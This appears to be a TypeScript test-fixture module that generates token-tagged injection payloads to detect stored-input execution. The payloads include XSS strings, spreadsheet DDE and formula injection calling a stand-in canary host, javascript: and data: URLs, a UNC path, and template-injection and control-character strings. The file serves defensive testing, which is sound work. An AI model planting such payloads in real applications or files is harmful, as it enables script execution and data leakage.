/** Nobody's: what asks for anything here was made to by a text. */
export const canaryHost = 'kanari.invalid';
/** What a text that runs in a browser calls. */
export const canaryCall = 'kanariSang';

const html = (token: string) =>
  `"><img src=//${canaryHost}/a onerror=${canaryCall}(1)>'><svg/onload=${canaryCall}(2)></title></textarea></style>` +
  `<script>${canaryCall}(3)</script><iframe srcdoc="<script>parent.${canaryCall}(4)</script>"></iframe>${token}`;

const starts = [
  (token: string) => `=HYPERLINK("http://${canaryHost}/?${token}","${token}")`,
  (token: string) => `+cmd|' /C calc'!A0${token}`,
  (token: string) => `-2+3+cmd|' /C calc'!A0${token}`,
  (token: string) => `@SUM(1+1)*cmd|' /C calc'!A0${token}`,
  (token: string) => `\t=1+1${token}`,
  (token: string) => `\r\n=WEBSERVICE("http://${canaryHost}/${token}")`,
];

const leads = [
  (token: string) => `javascript:${canaryCall}(5)//${token}`,
  (token: string) => ` java\nscript:${canaryCall}(6)//${token}`,
  (token: string) => `data:text/html,<script>${canaryCall}(7)</script>${token}`,
  (token: string) => `http://${canaryHost}/${token}`,
  (token: string) => `\\\\${canaryHost}\\${token}`,
];

const signs = [
  (token: string) => `\u202e${token}\u202d\u2066\u200b\ufeff`,
  (token: string) => `\u0001\u0008\u001b[31m${token}\u007f\u0085\ufffe`,
  (token: string) => `]]>&lt;b&gt;&amp;<!--${token}--><?xml version="1.0"?>\u2028\u2029`,
  (token: string) => `\${${canaryCall}(8)}{{constructor.constructor('${canaryCall}(9)')()}}%00%0d%0a${token}`,
];

const kinds = [[html], starts, leads, signs];
/** With so many shifts each field has had each kind. */
export const shifts = kinds.length;

/** A text that would do harm where it is not taken as a text; the token in it tells it is there. */
export const storedScript = (shift: number) => (token: string, count: number) => {
  const kind = kinds[(count + shift) % kinds.length] ?? [html];
  return (kind[Math.floor(count / kinds.length) % kind.length] ?? html)(token);
};
